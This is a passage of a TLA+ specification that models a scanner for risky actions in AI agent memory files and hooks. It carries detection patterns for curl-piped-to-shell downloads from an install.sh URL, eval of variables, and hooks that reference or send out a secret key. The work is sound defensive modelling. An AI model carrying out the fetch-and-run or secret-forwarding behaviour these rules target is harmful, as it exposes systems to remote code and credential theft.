    { <<>>, <<SecretLine>>, <<HeaderLine, SecretLine>>, <<SecretLine, SecretLine>>,
      <<RunLine, EvalLine>>, <<EvalLine, SecretLine>> }

\* a memory file in markdown and a hook in shell
PipePaths == {"CLAUDE.md", ".claude/hooks/a.sh"}

\* a file; throws_at is the line at which the extraction throws, 0 if it
\* does not
FileChoices ==
    UNION {{[path |-> p, content |-> c, throws_at |-> t] : t \in 0..Len(c)} :
               p \in PipePaths, c \in ContentChoices}

\* the files found, each path once, in any order
FileLists ==
    {fs \in SeqsUpTo(FileChoices, MaxDocuments) :
        \A i, j \in 1..Len(fs) : i # j => fs[i].path # fs[j].path}

\* the files of the scans that exercise the hook and network rules: a
\* memory file in markdown, a hook without a trigger in its name and a
\* post_edit hook
RuleFileChoices ==
    [ path : {"CLAUDE.md"},
      content : { <<>>, <<CurlLine>>, <<BashFence, CurlLine, Fence>>,
                  <<BashFence, CurlLine>>, <<HeaderLine, RunLine>> },
      throws_at : {0} ]
    \cup
    [ path : {".claude/hooks/a.sh", ".claude/hooks/post_edit.sh"},
      content : { <<>>, <<CommandLine>>, <<CurlLine>>, <<SecretLine>>, <<TwiceLine>>,
                  <<HeaderLine, CommandLine>> },
      throws_at : {0} ]

\* one file, or two files of different paths in any order
RuleFileLists ==
    {<<f>> : f \in RuleFileChoices}
    \cup {fs \in RuleFileChoices \X RuleFileChoices : fs[1].path # fs[2].path}

\* String.prototype.includes and endsWith
StringIncludes(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

EndsWith(s, suffix) ==
    /\ Len(s) >= Len(suffix)
    /\ SubSeq(s, Len(s) - Len(suffix) + 1, Len(s)) = suffix

\* ClaudeParser.determineDocType
DetermineDocType(filePath) ==
    LET normalizedPath == ToLowerCase(Chars(filePath))
    IN  IF StringIncludes(normalizedPath, 
                    <<".", "c", "l", "a", "u", "d", "e", "/", "s", "k", "i", "l", "l", "s", "/">>)
        THEN "skill"
        ELSE IF StringIncludes(normalizedPath, 
                    <<".", "c", "l", "a", "u", "d", "e", "/", "a", "g", "e", "n", "t", "s", "/">>)
        THEN "agent"
        ELSE IF StringIncludes(normalizedPath, 
                    <<".", "c", "l", "a", "u", "d", "e", "/", "h", "o", "o", "k", "s", "/">>)
        THEN "hook"
        ELSE IF EndsWith(normalizedPath, <<"c", "l", "a", "u", "d", "e", ".", "m", "d">>)
        THEN "memory"
        ELSE IF EndsWith(normalizedPath, <<"a", "g", "e", "n", "t", "s", ".", "m", "d">>)
        THEN "memory"
        ELSE "unknown"

\* ClaudeParser.determineFormat
DetermineFormat(filePath) ==
    LET normalizedPath == ToLowerCase(Chars(filePath))
    IN  IF EndsWith(normalizedPath, <<".", "m", "d">>) THEN "markdown"
        ELSE IF \/ EndsWith(normalizedPath, <<".", "s", "h">>)
                \/ EndsWith(normalizedPath, <<".", "b", "a", "s", "h">>)
        THEN "shell"
        ELSE IF EndsWith(normalizedPath, <<".", "j", "s", "o", "n">>) THEN "json"
        ELSE IF \/ EndsWith(normalizedPath, <<".", "y", "a", "m", "l">>)
                \/ EndsWith(normalizedPath, <<".", "y", "m", "l">>)
        THEN "yaml"
        ELSE "text"

\* ClaudeParser.determineTriggers: the trigger types named in the path,
\* 'unknown' when there is none
DetermineTriggers(filePath) ==
    LET normalizedPath == ToLowerCase(Chars(filePath))
        Names(a, b) ==
            StringIncludes(normalizedPath, a) \/ StringIncludes(normalizedPath, b)
        triggers ==
            (IF Names(<<"p", "r", "e", "_", "c", "o", "m", "m", "i", "t">>,
                      <<"p", "r", "e", "-", "c", "o", "m", "m", "i", "t">>)
             THEN <<"pre_commit">> ELSE <<>>)
            \o (IF Names(<<"p", "o", "s", "t", "_", "e", "d", "i", "t">>,
                         <<"p", "o", "s", "t", "-", "e", "d", "i", "t">>)
                THEN <<"post_edit">> ELSE <<>>)
            \o (IF Names(<<"o", "n", "_", "e", "d", "i", "t">>,
                         <<"o", "n", "-", "e", "d", "i", "t">>)
                THEN <<"on_edit">> ELSE <<>>)
            \o (IF Names(<<"o", "n", "_", "p", "r">>,
                         <<"o", "n", "-", "p", "r">>)
                THEN <<"on_pr">> ELSE <<>>)
    IN  IF Len(triggers) = 0 THEN <<"unknown">> ELSE triggers

\* generateId(prefix): the prefix and eight random bytes. The random bytes
\* of a scan are drawn from the scan's seed; each call draws new ones.
GenerateId(prefix, seed, call) == [prefix |-> prefix, random |-> <<seed>> \o call]

\* the seeds of the random bytes
IdSeeds == {1, 2}

\* line.trim().startsWith('#') || line.trim() === ''
IsCommentOrEmpty(line) == line \in {HeaderLine, PermissionsHeader, ""}

\* line.startsWith('#')
IsHeader(line) == line \in {HeaderLine, PermissionsHeader}

\* ClaudeParser.isDynamicShellExecution: /\beval\s+\$/i and
\* /curl\s+.*\|\s*(?:bash|sh|zsh)/i are the patterns that match a line of
\* the model
IsDynamicShellExecution(line) == line \in {EvalLine, CurlLine}

\* ClaudeParser.containsShellCommand: 'npm', 'curl' and 'bash' are the
\* command words in the lines of the model ('echo' and 'eval' are not in
\* the list)
ContainsShellCommand(line) == line \in {RunLine, CommandLine, CurlLine, BashFence}

\* BaseParser.extractEnvVars: /\$\{?([A-Z_][A-Z0-9_]*)\}?/g
ExtractEnvVars(line) ==
    CASE line = SecretLine -> <<"STRIPE_SECRET_KEY">>
      [] line = TwiceLine -> <<"STRIPE_SECRET_KEY", "STRIPE_SECRET_KEY">>
      [] line = EvalLine -> <<"X">>
      [] OTHER -> <<>>

\* isKnownSecretVar of BaseParser and of SEC-001: the name includes
\* 'SECRET_KEY' (the one known name that occurs in a name of the model),
\* compared in one case
IsKnownSecretVar(varName) == StringIncludes(ToLowerCase(Chars(varName)), 
                    <<"s", "e", "c", "r", "e", "t", "_", "k", "e", "y">>)

\* ClaudeParser.determineSecretPropagation: curl, wget or http give
\* 'network'; '>' or tee give 'file'; exec, eval, bash or sh give 'shell'
DetermineSecretPropagation(line) ==
    (IF line = CurlLine THEN <<"network">> ELSE <<>>)
    \o (IF line \in {EvalLine, CurlLine, BashFence} THEN <<"shell">> ELSE <<>>)

\* BaseParser.extractUrls: /https?:\/\/[^\s'"<>]+/gi
ExtractUrls(line) ==
    IF line = CurlLine THEN <<"https://x.com/install.sh">> ELSE <<>>

\* BaseParser.extractDomain: /(?:https?:\/\/)?([^/\s:]+)/, the characters
\* after the scheme up to the first '/', ':' or white space
ExtractDomain(url) ==
    LET s == Chars(url)
        Scheme(n, scheme) == Len(s) >= n /\ SubSeq(s, 1, n) = scheme
        rest == IF Scheme(8, <<"h", "t", "t", "p", "s", ":", "/", "/">>)
                THEN SubSeq(s, 9, Len(s))
                ELSE IF Scheme(7, <<"h", "t", "t", "p", ":", "/", "/">>)
                THEN SubSeq(s, 8, Len(s))
                ELSE s
        stops == {"/", ":", " ", "\t"}
        len == CHOOSE k \in 0..Len(rest) :
                   /\ \A i \in 1..k : rest[i] \notin stops
                   /\ k = Len(rest) \/ rest[k + 1] \in stops
    IN  SubSeq(rest, 1, len)

\* BaseParser.isExecutableUrl, case-insensitive
IsExecutableUrl(url) ==
    LET lower == ToLowerCase(Chars(url))
    IN  \/ \E suffix \in { <<".", "s", "h">>, <<".", "b", "a", "s", "h">>,
                           <<".", "p", "y">>, <<".", "r", "b">>,
                           <<".", "j", "s">> } :
               EndsWith(lower, suffix)
        \/ \E part \in { <<"i", "n", "s", "t", "a", "l", "l", ".", "s", "h">>,
                         <<"s", "e", "t", "u", "p", ".", "s", "h">>,
                         <<"b", "o", "o", "t", "s", "t", "r", "a", "p">>,
                         <<"g", "e", "t", ".", "d", "o", "c", "k", "e", "r", ".", "c", "o", "m">>,
                         <<"r", "a", "w", ".", "g", "i", "t", "h", "u", "b", "u", "s", "e", "r", "c", "o", "n", "t", "e", "n", "t", ".", "c", "o", "m">> } :
               StringIncludes(lower, part)

\* [...envVars, ...files].join(', ')
RECURSIVE JoinWithComma(_)
JoinWithComma(names) ==
    IF Len(names) = 0 THEN <<>>
    ELSE IF Len(names) = 1 THEN Chars(names[1])
    ELSE Chars(names[1]) \o <<",", " ">> \o JoinWithComma(Tail(names))

\* ClaudeParser.containsFileWrite: a redirection, tee, sed -i; no line of
\* the model holds one
ContainsFileWrite(line) == line \in {}

\* ClaudeParser.extractWritePaths
ExtractWritePaths(line) == <<>>

\* detectInlineActions: /\brun\s+`([^`]+)`/i and its command
InlineCommand(line) == IF line = RunLine THEN "npm test" ELSE Undefined

\* anchors, context and the first evidence of an action
Located(action, lineNum, context, confidence, evidence) ==
    action @@ [ start_line |-> lineNum, end_line |-> lineNum, context |-> context,
                confidence |-> confidence, evidence |-> evidence ]

\* one network action for every URL of a dynamic shell line
NetworkActionsOf(line, lineNum, context) ==
    LET urls == ExtractUrls(line)
    IN  [u \in 1..Len(urls) |->
            Located([NetworkAction(ExtractDomain(urls[u]), IsExecutableUrl(urls[u]))
                        EXCEPT !.urls = <<urls[u]>>],
                    lineNum, context, 95, Chars(urls[u]))]

\* parseShellContent 162-236: the actions of one line
ShellLineActions(line, lineNum, context) ==
    IF IsCommentOrEmpty(line) THEN <<>>
    ELSE (IF IsDynamicShellExecution(line)
          THEN <<Located(ShellAction(line, TRUE), lineNum, context, 95, Chars(line))>>
               \o NetworkActionsOf(line, lineNum, context)
          ELSE IF ContainsShellCommand(line)
          THEN <<Located(ShellAction(line, FALSE), lineNum, context, 85, Chars(line))>>
          ELSE <<>>)
         \o (LET secretVars == SelectSeq(ExtractEnvVars(line), IsKnownSecretVar)
             IN  IF Len(secretVars) > 0
                 THEN <<Located(SecretsAction(secretVars,
                                              DetermineSecretPropagation(line)),
                                lineNum, context, 90, JoinWithComma(secretVars))>>
                 ELSE <<>>)
         \o (IF ContainsFileWrite(line) /\ Len(ExtractWritePaths(line)) > 0
             THEN <<Located(FileWriteAction(ExtractWritePaths(line), <<>>),
                            lineNum, context, 85, Chars(ExtractWritePaths(line)[1]))>>
             ELSE <<>>)

\* parseMarkdownContent 254-308 for a line outside a code block:
\* detectInlineActions 374-435
MarkdownLineActions(line, lineNum, context) ==
    IF InlineCommand(line) # Undefined /\ ContainsShellCommand(InlineCommand(line))
    THEN <<Located(ShellAction(InlineCommand(line),
                               IsDynamicShellExecution(InlineCommand(line))),
                   lineNum, context, 70, Chars(InlineCommand(line)))>>
    ELSE <<>>

\* parseCodeBlockAsShell without the network actions
CodeBlockLineActions_NoNetwork(line, lineNum, context) ==
    IF IsCommentOrEmpty(line) THEN <<>>
    ELSE IF IsDynamicShellExecution(line)
    THEN <<Located(ShellAction(line, TRUE), lineNum, context, 95, Chars(line))>>
    ELSE IF ContainsShellCommand(line)
    THEN <<Located(ShellAction(line, FALSE), lineNum, context, 80, Chars(line))>>
    ELSE <<>>

\* parseCodeBlockAsShell 335-372: the actions of one line of a code block
CodeBlockLineActions(line, lineNum, context) ==
    IF IsCommentOrEmpty(line) THEN <<>>
    ELSE IF IsDynamicShellExecution(line)
    THEN <<Located(ShellAction(line, TRUE), lineNum, context, 95, Chars(line))>>
         \o NetworkActionsOf(line, lineNum, context)
    ELSE IF ContainsShellCommand(line)
    THEN <<Located(ShellAction(line, FALSE), lineNum, context, 80, Chars(line))>>
    ELSE <<>>

\* line.trim().startsWith of three backquotes
IsFence(line) == line \in {BashFence, Fence}

\* codeBlockLang: line.trim().slice(3).toLowerCase()
CodeBlockLang(line) == IF line = BashFence THEN "bash" ELSE ""

\* ClaudeParser.isShellLanguage
IsShellLanguage(lang) == lang \in {"bash", "sh", "zsh", "shell", "console", "terminal"}

\* the fence lines among the first n lines
FencesUpTo(content, n) == {i \in 1..n : IsFence(content[i])}

\* inCodeBlock when line n is read: an odd number of fences precede it
InCodeBlock(content, n) == Cardinality(FencesUpTo(content, n - 1)) % 2 = 1

\* codeBlockStart for a line n of a code block: the last fence before it
CodeBlockStart(content, n) ==
    CHOOSE i \in FencesUpTo(content, n - 1) :
        \A j \in FencesUpTo(content, n - 1) : j <= i

\* whether a fence follows line n, so that the block of line n is closed
\* and handed to parseCodeBlockAsShell
CodeBlockClosed(content, n) == \E i \in (n + 1)..Len(content) : IsFence(content[i])

\* parseMarkdownContent 254-308: the actions of line n; the lines of a
\* closed code block in a shell language are parsed as shell, at
\* anchors.start_line + i + 1 for the i-th line of the block (from 0)
MarkdownActionsAt(content, n, context) ==
    IF IsFence(content[n]) THEN <<>>
    ELSE IF InCodeBlock(content, n)
    THEN LET codeBlockStart == CodeBlockStart(content, n)
             i == n - codeBlockStart - 1
         IN  IF /\ CodeBlockClosed(content, n)
                /\ IsShellLanguage(CodeBlockLang(content[codeBlockStart]))
             THEN CodeBlockLineActions(content[n], codeBlockStart + i + 1, context)
             ELSE <<>>
    ELSE MarkdownLineActions(content[n], n, context)

\* the actions of the lines 1..n of a file, in order
RECURSIVE ExtractActions(_, _, _, _)
ExtractActions(content, n, format, context) ==
    IF n = 0 THEN <<>>
    ELSE ExtractActions(content, n - 1, format, context)
         \o (IF format = "shell"
             THEN ShellLineActions(content[n], n, context)
             ELSE MarkdownActionsAt(content, n, context))

\* createShellAction, createSecretsAction: action_id: generateId('action')
WithActionIds(actions, seed, docIndexInScan) ==
    [k \in 1..Len(actions) |->
        actions[k] @@ [action_id |-> GenerateId("action", seed, <<docIndexInScan, k>>)]]

\* parseMarkdownContent 288-291: line n starts an instruction block, a
\* header line that is outside a code block
StartsBlock(content, n) ==
    IsHeader(content[n]) /\ ~IsFence(content[n]) /\ ~InCodeBlock(content, n)

\* the last line before the next block, the last line of the file when
\* there is none
LastBeforeNextBlock(content, h) ==
    LET later == {m \in (h + 1)..Len(content) : StartsBlock(content, m)}
    IN  IF later = {} THEN Len(content)
        ELSE (CHOOSE m \in later : \A k \in later : m <= k) - 1

\* parseMarkdownContent 298-302: line n extends the current block, a
\* non-empty line outside a code block
ExtendsBlock(content, n) ==
    ~IsFence(content[n]) /\ ~InCodeBlock(content, n) /\ content[n] # ""

\* currentBlock.text of the block of header line h, once the lines up to n
\* are read: the header and the lines that extend it
RECURSIVE BlockText(_, _, _)
BlockText(content, h, n) ==
    IF n <= h THEN <<content[h]>>
    ELSE BlockText(content, h, n - 1)
         \o (IF ExtendsBlock(content, n) THEN <<content[n]>> ELSE <<>>)

\* parseMarkdownContent 288-309: one instruction block for every header
\* line outside a code block, block_id: generateId('block')
RECURSIVE InstructionBlocks(_, _, _, _)
InstructionBlocks(content, n, seed, docIndexInScan) ==
    IF n = 0 THEN <<>>
    ELSE InstructionBlocks(content, n - 1, seed, docIndexInScan)
         \o (IF StartsBlock(content, n)
             THEN <<[ block_id |-> GenerateId("block", seed, <<docIndexInScan, n>>),
                      start_line |-> n,
                      text |-> BlockText(content, n,
                                         LastBeforeNextBlock(content, n)) ]>>
             ELSE <<>>)

\* BaseParser.deriveCapabilities: one capability for every capability type,
\* in order of first appearance, cap_id: generateId('cap')
DeriveCapabilities(actions, seed, docIndexInScan) ==
    LET capTypes == Deduplicate([k \in 1..Len(actions) |-> actions[k].type])
    IN  [c \in 1..Len(capTypes) |->
            [ cap_id |-> GenerateId("cap", seed, <<docIndexInScan, c>>),
              type |-> capTypes[c],
              derived_from_actions |->
                  LET OfType(a) == a.type = capTypes[c]
                      mine == SelectSeq(actions, OfType)
                  IN  [k \in 1..Len(mine) |-> mine[k].action_id] ]]

\* ClaudeParser.parse: the document, or none and an error when the
\* extraction threw
Parse(file, seed, docIndexInScan) ==
    IF file.throws_at > 0
    THEN [ document |-> <<>>, errors |-> <<[failed_to_parse |-> file.path]>> ]
    ELSE LET docType == DetermineDocType(file.path)
             format == DetermineFormat(file.path)
             context == IF docType = "hook" THEN "hook" ELSE "interactive"
             actions == WithActionIds(
                            ExtractActions(file.content, Len(file.content),
                                           format, context),
                            seed, docIndexInScan)
         IN  [ document |->
                 <<[ doc_id |-> GenerateId("doc", seed, <<docIndexInScan>>),
                     path |-> file.path,
                     doc_type |-> docType,
                     format |-> format,
                     parse_status |-> "ok",
                     runs_in_privileged_env |-> FALSE,
                     context_profile |->
                         [ primary |-> context,
                           triggers |-> IF docType = "hook"
                                        THEN DetermineTriggers(file.path)
                                        ELSE <<>> ],
                     instruction_blocks |->
                         IF format = "markdown"
                         THEN InstructionBlocks(file.content, Len(file.content),
                                                seed, docIndexInScan)
                         ELSE <<>>,
                     actions |-> actions,
                     capabilities |-> DeriveCapabilities(actions, seed, docIndexInScan) ]>>,
               errors |-> <<>> ]

\* the finding traced by the random id of its document
CreateRuleFinding_ByDocId(ruleId, doc, anchors, message, evidenceValue, confidence) ==
    [ finding_id |-> Sha256Prefixed(<<doc.doc_id>>),
      rule_id |-> ruleId,
      severity |-> DefinitionSeverity(ruleId),
      message |-> message,
      confidence |-> confidence,
      path |-> doc.path,
      start_line |-> anchors.start_line,
      end_line |-> anchors.end_line,
      evidence |-> evidenceValue,
      fingerprints |->
          [FindingFingerprints(ruleId, doc.path, anchors.start_line,
                              anchors.end_line, evidenceValue)
              EXCEPT !.stable = Sha256Prefixed(<<doc.doc_id>>)] ]

\* BaseRule.createFinding, with the location and the fingerprints
CreateRuleFinding(ruleId, doc, anchors, message, evidenceValue, confidence) ==
    [ finding_id |-> GenerateFindingId(ruleId, doc.path, anchors.start_line,
                                     evidenceValue),
      rule_id |-> ruleId,
      severity |-> DefinitionSeverity(ruleId),
      message |-> message,
      confidence |-> confidence,
      path |-> doc.path,
      start_line |-> anchors.start_line,
      end_line |-> anchors.end_line,
      evidence |-> evidenceValue,
      fingerprints |->
          FindingFingerprints(ruleId, doc.path, anchors.start_line,
                              anchors.end_line, evidenceValue) ]

\* action.anchors
Anchors(action) == [start_line |-> action.start_line, end_line |-> action.end_line]

RECURSIVE Flatten(_)
Flatten(seqs) ==
    IF seqs = <<>> THEN <<>> ELSE Head(seqs) \o Flatten(Tail(seqs))

\* EXEC-001 (execution.ts 29-71): one finding for every dynamic shell action
Exec001(doc) ==
    Flatten([k \in 1..Len(doc.actions) |->
        LET action == doc.actions[k]
        IN  IF /\ action.type = "shell_exec"
               /\ action.dynamic
               /\ action.confidence >= options.minConfidence
            THEN <<CreateRuleFinding("EXEC-001", doc, Anchors(action),
                                     [text |-> "Dynamic shell execution via eval detected.",
                                      var |-> Undefined],
                                     action.evidence, action.confidence)>>
            ELSE <<>>])

\* EXEC-002 (execution.ts 93-127): in a hook context, one finding for every
\* action of type shell_exec
Exec002(doc) ==
    IF doc.context_profile.primary # "hook" THEN <<>>
    ELSE Flatten([k \in 1..Len(doc.actions) |->
             LET action == doc.actions[k]
             IN  IF /\ action.type = "shell_exec"
                    /\ action.confidence >= options.minConfidence
                 THEN <<CreateRuleFinding("EXEC-002", doc, Anchors(action),
                                          [text |-> "Shell execution in hook context",
                                           var |-> Undefined],
                                          action.evidence, action.confidence)>>
                 ELSE <<>>])

\* NET-001 (hook.ts 184-230): one finding for every network_call action
\* when the summary declares no network capability or does not list all
\* the domains of the action
Net001(doc, capabilitySummary) ==
    LET hasNetworkCapability ==
            capabilitySummary.network.outbound \/ capabilitySummary.network.inbound
    IN  Flatten([k \in 1..Len(doc.actions) |->
            LET action == doc.actions[k]
                isAllowed ==
                    /\ hasNetworkCapability
                    /\ \A d \in 1..Len(action.domains) :
                           Includes(capabilitySummary.network.allowed_domains,
                                    action.domains[d])
            IN  IF /\ action.type = "network_call"
                   /\ action.confidence >= options.minConfidence
                   /\ ~hasNetworkCapability \/ ~isAllowed
                THEN <<CreateRuleFinding("NET-001", doc, Anchors(action),
                                         [text |-> "Network access detected without explicit declaration",
                                          var |-> Undefined],
                                         action.evidence, action.confidence)>>
                ELSE <<>>])

\* NET-002 (hook.ts 252-283): one finding for every network_call action that fetches
\* executable content
Net002(doc) ==
    Flatten([k \in 1..Len(doc.actions) |->
        LET action == doc.actions[k]
        IN  IF /\ action.type = "network_call"
               /\ action.fetches_executable
               /\ action.confidence >= options.minConfidence
            THEN <<CreateRuleFinding("NET-002", doc, Anchors(action),
                                     [text |-> "Remote executable content fetched",
                                      var |-> Undefined],
                                     action.evidence, action.confidence)>>
            ELSE <<>>])

\* HOOK-001 without the test of the triggers
Hook001_AnyTrigger(doc) ==
    LET IsSideEffect(a) == a.type \in {"shell_exec", "file_write", "network_call"}
        sideEffectActions == SelectSeq(doc.actions, IsSideEffect)
    IN  IF doc.doc_type # "hook" THEN <<>>
        ELSE Flatten([k \in 1..Len(sideEffectActions) |->
                 LET action == sideEffectActions[k]
                 IN  IF action.confidence >= options.minConfidence
                     THEN <<CreateRuleFinding("HOOK-001", doc, Anchors(action),
                                              [text |-> "Auto-triggered hook performs",
                                               var |-> Undefined,
                                               action_type |-> action.type],
                                              action.evidence, action.confidence)>>
                     ELSE <<>>])

\* HOOK-001 (hook.ts 29-87): in a hook document with a trigger other than
\* manual and unknown, or with no trigger, one finding for every shell_exec,
\* file_write or network_call action
Hook001(doc) ==
    LET IsSideEffect(a) == a.type \in {"shell_exec", "file_write", "network_call"}
        sideEffectActions == SelectSeq(doc.actions, IsSideEffect)
        triggers == doc.context_profile.triggers
        isAutoTriggered ==
            \E t \in 1..Len(triggers) : triggers[t] \notin {"manual", "unknown"}
    IN  IF doc.doc_type # "hook" THEN <<>>
        ELSE IF Len(sideEffectActions) = 0 THEN <<>>
        ELSE IF ~isAutoTriggered /\ Len(triggers) > 0 THEN <<>>
        ELSE Flatten([k \in 1..Len(sideEffectActions) |->
                 LET action == sideEffectActions[k]
                 IN  IF action.confidence >= options.minConfidence
                     THEN <<CreateRuleFinding("HOOK-001", doc, Anchors(action),
                                              [text |-> "Auto-triggered hook performs",
                                               var |-> Undefined,
                                               action_type |-> action.type],
                                              action.evidence, action.confidence)>>
                     ELSE <<>>])

\* SEC-001 100-135: one finding for every known secret variable of every
\* action of the document
Sec001OfAction(doc, action) ==
    Flatten([v \in 1..Len(action.reads_env_vars) |->
        IF /\ IsKnownSecretVar(action.reads_env_vars[v])
           /\ action.confidence >= options.minConfidence
        THEN <<CreateRuleFinding("SEC-001", doc, Anchors(action),
                                 [text |-> "Reference to secret environment variable",
                                  var |-> action.reads_env_vars[v]],
                                 <<"$">> \o Chars(action.reads_env_vars[v]),
                                 action.confidence)>>
        ELSE <<>>])

\* SEC-001 137-158: a finding at line 1 for every secret variable of the
\* capability summary that no finding so far mentions (f.message.includes:
\* the names of the model do not contain one another)
RECURSIVE Sec001OfSummary(_, _, _)
Sec001OfSummary(doc, varNames, found) ==
    IF varNames = <<>> THEN found
    ELSE LET varName == Head(varNames)
             Mentions(f) == f.message.var = varName
         IN  Sec001OfSummary(doc, Tail(varNames),
                 IF IsKnownSecretVar(varName) /\ SelectSeq(found, Mentions) = <<>>
                 THEN Append(found,
                          CreateRuleFinding("SEC-001", doc,
                              [start_line |-> 1, end_line |-> 1],
                              [text |-> "Reference to secret environment variable",
                               var |-> varName],
                              Chars("Secret variable referenced: ") \o Chars(varName),
                              80))
                 ELSE found)

\* SEC-001.evaluate
Sec001(doc, capabilitySummary) ==
    Sec001OfSummary(doc, capabilitySummary.secrets.env_vars_referenced,
        Flatten([k \in 1..Len(doc.actions) |-> Sec001OfAction(doc, doc.actions[k])]))

\* the lines of the model whose lower case includes 'permission',
\* 'capability' or 'allowed'
HasPermissionWord(line) ==
    line \in {PermissionsHeader, ManifestOpen, AllowedCommandsOnce, AllowedCommandsTwice}

\* OBS-002 (observability.ts 93-126): a finding at line 1 for a document
\* with capabilities and no instruction block that names a permission
Obs002(doc) ==
    LET hasPermissionBlock ==
            \E b \in 1..Len(doc.instruction_blocks) :
                \E t \in 1..Len(doc.instruction_blocks[b].text) :
                    HasPermissionWord(doc.instruction_blocks[b].text[t])
    IN  IF Len(doc.capabilities) > 0 /\ ~hasPermissionBlock
        THEN <<CreateRuleFinding("OBS-002", doc, [start_line |-> 1, end_line |-> 1],
                                 [text |-> "Agent configuration has capabilities but no explicit permission manifest.",
                                  var |-> Undefined],
                                 Chars("No permission declaration found in document"),
                                 60)>>
        ELSE <<>>

\* RuleEngine.evaluateDocument with no rule disabled and no severity
\* override: execution rules, network rules, secret rules, hook rules,
\* observability rules, then the confidence threshold
EvaluateDocumentRules(doc, capabilitySummary) ==
    SelectSeq(Exec001(doc) \o Exec002(doc)
              \o Net001(doc, capabilitySummary) \o Net002(doc)
              \o Sec001(doc, capabilitySummary)
              \o Hook001(doc)
              \o Obs002(doc),
              PassesConfidence)

\* RuleEngine.evaluateAll
EvaluateAllRules(docs, capabilitySummary) ==
    SortFindings(Flatten([d \in 1..Len(docs) |->
                             EvaluateDocumentRules(docs[d], capabilitySummary)]))

\* Scanner.scan 101-141: parse every file, aggregate, evaluate
ScanRun(files, seed) ==
    LET results == [i \in 1..Len(files) |-> Parse(files[i], seed, i)]
        docs == Flatten([i \in 1..Len(files) |-> results[i].document])
        capabilitySummary == ComputeCapabilitySummary(docs)
    IN  [ ran |-> TRUE,
          seed |-> seed,
          documents |-> docs,
          errors |-> Flatten([i \in 1..Len(files) |-> results[i].errors]),
          capabilitySummary |-> capabilitySummary,
          findings |-> EvaluateAllRules(docs, capabilitySummary) ]

NotRun == [ran |-> FALSE]

PipeIdle ==
    /\ pipeFiles = <<>>
    /\ pipeRuns = [first |-> NotRun, second |-> NotRun]

PipeInit ==
    /\ pipeFiles \in FileLists
    /\ pipeRuns = [first |-> NotRun, second |-> NotRun]

\* the files of the scans that exercise the hook and network rules
RulesInit ==
    /\ pipeFiles \in RuleFileLists
    /\ pipeRuns = [first |-> NotRun, second |-> NotRun]

\* a scan of the files
ScanFiles ==
    /\ ~pipeRuns.first.ran
    /\ \E seed \in IdSeeds :
           pipeRuns' = [pipeRuns EXCEPT !.first = ScanRun(pipeFiles, seed)]
    /\ UNCHANGED <<pipeFiles, notPipeVars>>

\* another scan of the same files under the same policy
ScanFilesAgain ==
    /\ pipeRuns.first.ran
    /\ ~pipeRuns.second.ran
    /\ \E seed \in IdSeeds :
           pipeRuns' = [pipeRuns EXCEPT !.second = ScanRun(pipeFiles, seed)]
    /\ UNCHANGED <<pipeFiles, notPipeVars>>

PipeNext ==
    \/ ScanFiles
    \/ ScanFilesAgain

-----------------------------------------------------------------------------
(* Scanner.scan: the files it finds and parses (src/scanner.ts 79-119,      *)
(* 147-168)                                                                 *)

\* the files of the scanned directory
FindPaths == {"CLAUDE.md", "agents.md", ".claude/hooks/a.sh", "notes.txt"}

\* what glob returns for one include pattern: files, each once
GlobMatches ==
    {m \in SeqsUpTo(FindPaths, MaxMatches) :
        \A i, j \in 1..Len(m) : i # j => m[i] # m[j]}

\* policy.scan.max_files and the matches of two include patterns
FindInputs == [max_files : 1..MaxFilesLimit, matches : GlobMatches \X GlobMatches]

\* ParserFactory.canHandle: ClaudeParser.canHandle or CursorParser.canHandle
CanHandle(filePath) ==
    LET normalizedPath == ToLowerCase(Chars(filePath))
    IN  \/ StringIncludes(normalizedPath, <<".", "c", "l", "a", "u", "d", "e", "/">>)
        \/ EndsWith(normalizedPath, <<"c", "l", "a", "u", "d", "e", ".", "m", "d">>)
        \/ EndsWith(normalizedPath, <<"a", "g", "e", "n", "t", "s", ".", "m", "d">>)
        \/ EndsWith(normalizedPath,
                    <<".", "c", "u", "r", "s", "o", "r", "r", "u", "l", "e", "s">>)

\* Scanner.findFiles: the matches of every include pattern, those a parser
\* can handle, each once
FindFilesOf(input) ==
    Deduplicate(SelectSeq(Flatten(input.matches), CanHandle))

FindIdle ==
    /\ findInput = [max_files |-> 1, matches |-> <<<<>>, <<>>>>]
    /\ findFiles = <<>>
    /\ findParsed = 0
    /\ findDocuments = <<>>
    /\ findPc = "start"

FindInit ==
    /\ findInput \in FindInputs
    /\ findFiles = <<>>
    /\ findParsed = 0
    /\ findDocuments = <<>>
    /\ findPc = "start"

\* scan 82-98: findFiles; with no file the scan returns at once
FindFiles ==
    /\ findPc = "start"
    /\ findFiles' = FindFilesOf(findInput)
    /\ findPc' = IF Len(findFiles') = 0 THEN "done" ELSE "parsing"
    /\ UNCHANGED <<findInput, findParsed, findDocuments, notFindVars>>

\* scan 101-119: one pass of the loop over the files; the parser returns a
\* document, or none (and an error), or reading the file throws
ParseFile ==
    /\ findPc = "parsing"
    /\ findParsed' = findParsed + 1
    /\ \E hasDocument \in BOOLEAN :
           findDocuments' = IF hasDocument
                            THEN Append(findDocuments, findFiles[findParsed'])
                            ELSE findDocuments
    /\ findPc' = IF findParsed' = Len(findFiles) THEN "done" ELSE "parsing"
    /\ UNCHANGED <<findInput, findFiles, notFindVars>>

FindNext ==
    \/ FindFiles
    \/ ParseFile

-----------------------------------------------------------------------------
(* The policy of the scan command: the flags, the configuration file and   *)
(* the defaults (src/cli.ts, src/policy/loader.ts)                          *)

\* a flag that is not given, a key that the file does not hold
NotGiven == Undefined

NoConfigFile == [exists |-> FALSE]

\* the policy section of a configuration file: fail_on and warn_on, each
\* present or not; 'critical' is not a severity
ConfigFiles ==
    {NoConfigFile}
    \cup [ exists : {TRUE},
           fail_on : Thresholds \cup {NotGiven, "critical"},
           warn_on : Thresholds \cup {NotGiven} ]

CfgInputs ==
    [ failOn : Thresholds \cup {NotGiven},
      warnOn : Thresholds \cup {NotGiven},
      file : ConfigFiles ]

\* program.opts(): the options --fail-on and --warn-on are declared with
\* the defaults 'high' and 'medium', which commander returns for a flag
\* that is not given
ProgramOpts(input) ==
    [ failOn |-> IF input.failOn = NotGiven THEN "high" ELSE input.failOn,
      warnOn |-> IF input.warnOn = NotGiven THEN "medium" ELSE input.warnOn ]

\* mergeWithDefaults: Object.assign(config.policy, userConfig.policy)
MergeWithDefaults(userPolicy) ==
    [DefaultScanPolicy EXCEPT
        !.fail_on = IF userPolicy.fail_on # NotGiven THEN userPolicy.fail_on ELSE @,
